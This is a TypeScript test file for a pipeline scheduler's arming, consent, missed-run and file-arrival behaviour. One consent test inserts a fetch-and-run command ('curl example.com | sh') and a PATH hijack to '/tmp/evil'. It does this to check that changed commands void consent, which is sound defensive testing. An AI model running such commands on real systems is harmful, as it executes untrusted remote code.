import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import type { PipelineOutcome } from '../../../schemas/protocol/pipelines.ts';
import type { FiringState } from '../../../schemas/protocol/schedules.ts';
import type { UserError } from '../../../server/core/user-error.ts';
import { parsePipeline } from '../../../server/manifests/dvc/parse-pipeline.ts';
import { parseWorkspaceManifest } from '../../../server/manifests/workspace/parse-workspace-manifest.ts';
import { Consents } from '../../../server/schedules/consents.ts';
import { FiringTable } from '../../../server/schedules/firing-table.ts';
import { SchedulePlans } from '../../../server/schedules/schedule-plans.ts';
import { type FiringOrder, Scheduler } from '../../../server/schedules/scheduler.ts';
import type { TriggerHandlers } from '../../../server/schedules/trigger-watch.ts';
import { openStore } from '../../../server/store/open-store.ts';
import type { Store } from '../../../server/store/store.ts';
import { HandClock } from './hand-clock.ts';

const nightly =
  'slipway: 1\nschedules:\n  - {name: nightly, pipeline: dvc.yaml, cron: "0 2 * * *", time_zone: Europe/Vienna}\n';
const arriving = 'slipway: 1\nschedules:\n  - {name: batch, pipeline: dvc.yaml, on: {arrives: "in/*.csv"}}\n';
const patient = `${nightly.replace('cron: "0 2 * * *"', 'cron: "0 12 * * *", off_peak: true')}off_peak: {start: "22:00", end: "06:00", time_zone: Europe/Vienna}\n`;

/** A run that a test ends. */
interface Begun {
  order: FiringOrder;
  end: (state: 'ran' | 'failed') => void;
}

let folder: string;
let store: Store;
let clock: HandClock;
let pipeline: string;
let begun: Begun[];
let handlers: TriggerHandlers | null;
let scheduler: Scheduler;

/** As the runner does at its start. */
function start(manifest: string): Scheduler {
  store = openStore({ folder, access: 'write' });
  scheduler = new Scheduler({
    folder,
    table: new FiringTable(store),
    consents: new Consents(join(folder, 'schedules.json')),
    clock,
    plans: new SchedulePlans(folder, () => ({
      root: folder,
      stages: parsePipeline({
        text: pipeline,
        file: 'dvc.yaml',
        root: folder,
        style: { bool: 'store_true', list: 'nargs' },
        reader: { readValues: () => null },
      }).stages,
    })),
    run: (order) => {
      const { promise, resolve } = Promise.withResolvers<Pick<PipelineOutcome, 'stages' | 'runId'>>();
      begun.push({
        order,
        end: (state) =>
          resolve({
            stages: [
              { name: 'train', state, reasons: state === 'failed' ? ['Exit code 1.'] : [], durationMs: 5 },
            ],
            runId: 'r1',
          }),
      });
      return { operation: `op${begun.length}`, ended: promise };
    },
    watch: (_, given) => {
      handlers = given;
      return { ready: Promise.resolve(), close() {} };
    },
    onChange: () => {},
    onError: (_, error) => {
      throw error;
    },
  });
  scheduler.load(parseWorkspaceManifest(manifest).value);
  return scheduler;
}

function stop(): void {
  scheduler.dispose();
  store.close();
}

async function arm(name: string): Promise<void> {
  const shown = view(name);
  await scheduler.arm(name, shown.consent, { cwd: folder, env: { PATH: '/bin', API_KEY: 's3cret' } });
}

function view(name: string) {
  const found = scheduler.list().find((schedule) => schedule.name === name);
  if (!found) throw new Error(`no schedule ${name}`);
  return found;
}

function states(name: string): FiringState[] {
  return view(name).firings.map(({ state }) => state);
}

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'slipway-schedules-'));
  clock = new HandClock('2026-01-10T12:00:00Z');
  pipeline = 'stages:\n  train: {cmd: python train.py, deps: [in], outs: [model]}\n';
  begun = [];
  handlers = null;
});
afterEach(() => {
  stop();
  rmSync(folder, { recursive: true, force: true });
});

describe('a schedule with a time', () => {
  test('does nothing before a person has armed it', () => {
    start(nightly);
    expect(view('nightly')).toMatchObject({ state: 'unarmed', nextAt: null });
    expect(view('nightly').commands).toEqual([
      { stage: 'train', folder: '.', command: 'python train.py', env: {} },
    ]);
    expect(scheduler.armedCount).toBe(0);
    clock.moveTo('2026-01-12T12:00:00Z');
    expect(begun).toEqual([]);
  });

  test('starts at its time by the clock of its time zone, and says when it starts next', async () => {
    start(nightly);
    await arm('nightly');
    expect(scheduler.armedCount).toBe(1);
    expect(view('nightly')).toMatchObject({ state: 'armed', nextAt: Date.parse('2026-01-11T01:00:00Z') });
    clock.moveTo('2026-01-11T00:59:59Z');
    expect(begun).toHaveLength(0);
    clock.moveTo('2026-01-11T01:00:00Z');
    expect(begun).toHaveLength(1);
    expect(view('nightly').nextAt).toBe(Date.parse('2026-01-12T01:00:00Z'));
    begun[0]?.end('ran');
    await expect.poll(() => states('nightly')).toEqual(['succeeded']);
    expect(view('nightly').firings[0]).toMatchObject({ runId: 'r1', reason: 'ran train', cause: 'time' });
  });

  test('runs with what was kept of the environment in which it was armed', async () => {
    start(nightly);
    await arm('nightly');
    stop();
    start(nightly);
    clock.moveTo('2026-01-11T01:00:00Z');
    expect(begun[0]?.order.context).toEqual({ cwd: folder, env: { PATH: '/bin' } });
  });

  test('shows a failure with its reason', async () => {
    start(nightly);
    await arm('nightly');
    clock.moveTo('2026-01-11T01:00:00Z');
    begun[0]?.end('failed');
    await expect.poll(() => states('nightly')).toEqual(['failed']);
    expect(view('nightly').firings[0]?.reason).toBe('train: Exit code 1.');
  });

  test('that was missed while the runner was away is told once, with how often', async () => {
    start(nightly);
    await arm('nightly');
    stop();
    clock.sleepUntil('2026-01-13T12:00:00Z');
    start(nightly);
    expect(begun).toHaveLength(0);
    expect(view('nightly').firings).toMatchObject([
      { state: 'missed', standsFor: 3, dueAt: Date.parse('2026-01-13T01:00:00Z') },
    ]);
    stop();
    start(nightly);
    expect(states('nightly')).toEqual(['missed']);
    expect(view('nightly').nextAt).toBe(Date.parse('2026-01-14T01:00:00Z'));
  });

  test('that was missed while the machine slept is told, too', async () => {
    start(nightly);
    await arm('nightly');
    clock.sleepUntil('2026-01-11T07:00:00Z');
    expect(begun).toHaveLength(0);
    expect(states('nightly')).toEqual(['missed']);
  });

  test('still starts where the runner comes back within a minute, and the times before it are missed', async () => {
    start(nightly);
    await arm('nightly');
    stop();
    clock.sleepUntil('2026-01-12T01:00:40Z');
    start(nightly);
    expect(begun).toHaveLength(1);
    expect(view('nightly').firings).toMatchObject([{ state: 'running' }, { state: 'missed', standsFor: 1 }]);
  });

  test('that is still running when its time comes again waits once, however often it comes', async () => {
    start(nightly);
    await arm('nightly');
    clock.moveTo('2026-01-11T01:00:00Z');
    clock.moveTo('2026-01-14T02:00:00Z');
    expect(begun).toHaveLength(1);
    expect(view('nightly').firings).toMatchObject([{ state: 'queued', standsFor: 3 }, { state: 'running' }]);
    begun[0]?.end('ran');
    await expect.poll(() => begun.length).toBe(2);
    begun[1]?.end('ran');
    await expect.poll(() => states('nightly')).toEqual(['succeeded', 'succeeded']);
    expect(begun).toHaveLength(2);
  });

  test('that ran when the runner was killed has failed, and what waited behind it runs', async () => {
    start(nightly);
    await arm('nightly');
    clock.moveTo('2026-01-12T01:00:00Z');
    stop();
    start(nightly);
    expect(view('nightly').firings).toMatchObject([
      { state: 'running' },
      { state: 'failed', reason: 'The runner ended while it ran.' },
    ]);
    expect(begun).toHaveLength(2);
  });
});

describe('consent', () => {
  test('ends with a changed command, which is not run until it is armed again', async () => {
    start(nightly);
    await arm('nightly');
    pipeline = pipeline.replace('train.py', 'train.py --all');
    expect(view('nightly')).toMatchObject({ state: 'changed', nextAt: null });
    clock.moveTo('2026-01-11T01:00:00Z');
    expect(begun).toHaveLength(0);
    expect(states('nightly')).toEqual(['refused']);
    await arm('nightly');
    clock.moveTo('2026-01-12T01:00:00Z');
    expect(begun).toHaveLength(1);
  });

  test.each([
    ['a variable of a stage', 'outs: [model]', 'outs: [model], meta: {slipway: {env: {PATH: /tmp/evil}}}'],
    ['a further stage', 'stages:', 'stages:\n  more: {cmd: "curl example.com | sh"}'],
    ['another folder', 'outs: [model]', 'outs: [model], wdir: elsewhere'],
  ])('ends with %s', async (_, before, after) => {
    start(nightly);
    await arm('nightly');
    pipeline = pipeline.replace(before, after);
    expect(view('nightly').state).toBe('changed');
  });

  test('ends with another time, and comes back with the time that it was given for', async () => {
    start(nightly);
    await arm('nightly');
    scheduler.load(parseWorkspaceManifest(nightly.replace('0 2', '0 3')).value);
    expect(view('nightly').state).toBe('changed');
    scheduler.load(parseWorkspaceManifest(nightly).value);
    expect(view('nightly').state).toBe('armed');
  });

  test('is not touched by what changes no command', async () => {
    start(nightly);
    await arm('nightly');
    pipeline = pipeline.replace('train:', '"train":').replace('deps: [in]', 'deps: [in, more], desc: Trains');
    scheduler.load(parseWorkspaceManifest(`# moved down\n${nightly}`).value);
    expect(view('nightly')).toMatchObject({ state: 'armed', line: 4 });
  });

  test('counts only for what was shown', async () => {
    start(nightly);
    const shown = view('nightly').consent;
    pipeline = pipeline.replace('train.py', 'other.py');
    await expect(scheduler.arm('nightly', shown, { cwd: folder, env: {} })).rejects.toMatchObject({
      code: 'SLW-SCHEDULE-CHANGED',
    });
    expect(view('nightly').state).toBe('unarmed');
  });

  test('is asked again where the stages changed after the start was decided', async () => {
    start(nightly);
    await arm('nightly');
    clock.moveTo('2026-01-11T01:00:00Z');
    pipeline = pipeline.replace('train.py', 'other.py');
    const admit = begun[0]?.order.admit;
    const { stages } = parsePipeline({
      text: pipeline,
      file: 'dvc.yaml',
      root: folder,
      style: { bool: 'store_true', list: 'nargs' },
      reader: { readValues: () => null },
    });
    expect(() => admit?.(stages)).toThrow('not what was consented to');
  });

  test('can be taken back: what waits is given up, and nothing starts any more', async () => {
    start(nightly);
    await arm('nightly');
    clock.moveTo('2026-01-12T01:00:00Z');
    scheduler.disarm('nightly');
    expect(view('nightly').firings).toMatchObject([
      { state: 'missed', reason: 'It was disarmed before it began.' },
      { state: 'running' },
    ]);
    clock.moveTo('2026-01-14T01:00:00Z');
    expect(begun).toHaveLength(1);
  });
});

describe('a schedule that can wait', () => {
  test('is held until off-peak hours begin, also by a new runner', async () => {
    start(patient);
    await arm('nightly');
    expect(view('nightly').nextAt).toBe(Date.parse('2026-01-10T21:00:00Z') + 24 * 3_600_000);
    clock.moveTo('2026-01-11T12:00:00Z');
    expect(begun).toHaveLength(0);
    expect(view('nightly')).toMatchObject({
      firings: [{ state: 'held', dueAt: Date.parse('2026-01-11T11:00:00Z') }],
      nextAt: Date.parse('2026-01-11T21:00:00Z'),
    });
    stop();
    start(patient);
    clock.moveTo('2026-01-11T20:59:00Z');
    expect(states('nightly')).toEqual(['held']);
    clock.moveTo('2026-01-11T21:00:00Z');
    expect(states('nightly')).toEqual(['running']);
  });
});

describe('files that arrive', () => {
  test('while a run goes on make one more run together', async () => {
    start(arriving);
    await arm('batch');
    handlers?.onFire('arrival', ['in/a.csv'], () => {});
    handlers?.onFire('arrival', ['in/b.csv'], () => {});
    handlers?.onFire('arrival', ['in/c.csv', 'in/d.csv'], () => {});
    expect(begun.map(({ order }) => order.firing.files)).toEqual([['in/a.csv']]);
    begun[0]?.end('ran');
    await expect.poll(() => begun.length).toBe(2);
    expect(begun[1]?.order.firing.files).toEqual(['in/b.csv', 'in/c.csv', 'in/d.csv']);
  });

  test('can be run again by a person where that failed', async () => {
    start(arriving);
    await arm('batch');
    handlers?.onFire('arrival', ['in/a.csv'], () => {});
    begun[0]?.end('failed');
    await expect.poll(() => states('batch')).toEqual(['failed']);
    const context = { cwd: folder, env: { API_KEY: 'mine' } };
    expect(scheduler.runNow('batch', view('batch').firings[0]?.id ?? null, context)).toBe('op2');
    expect(begun[1]?.order).toMatchObject({ firing: { files: ['in/a.csv'], cause: 'person' }, context });
    expect(() => scheduler.runNow('batch', null, context)).toThrow('runs already');
  });

  test('are not watched where the schedule’s own stages write', () => {
    pipeline = 'stages:\n  split: {cmd: split, outs: [in/part.csv]}\n';
    start(arriving);
    expect(view('batch')).toMatchObject({ state: 'broken' });
    expect(view('batch').problem).toContain('it would start itself for ever');
    pipeline = 'stages:\n  split: {cmd: split, outs: [in/part.json, input]}\n';
    expect(view('batch').state).toBe('unarmed');
  });
});

test('a schedule that is not declared cannot be armed or run, and the others are named', () => {
  start(nightly);
  expect(() => scheduler.disarm('nightli')).toThrow(
    'slipway.yaml names no schedule "nightli"; it names nightly.',
  );
  const code = (work: () => unknown) => {
    try {
      work();
    } catch (error) {
      return (error as UserError).code;
    }
    return null;
  };
  expect(code(() => scheduler.runNow('nightli', null, { cwd: folder, env: {} }))).toBe(
    'SLW-SCHEDULE-UNKNOWN',
  );
});
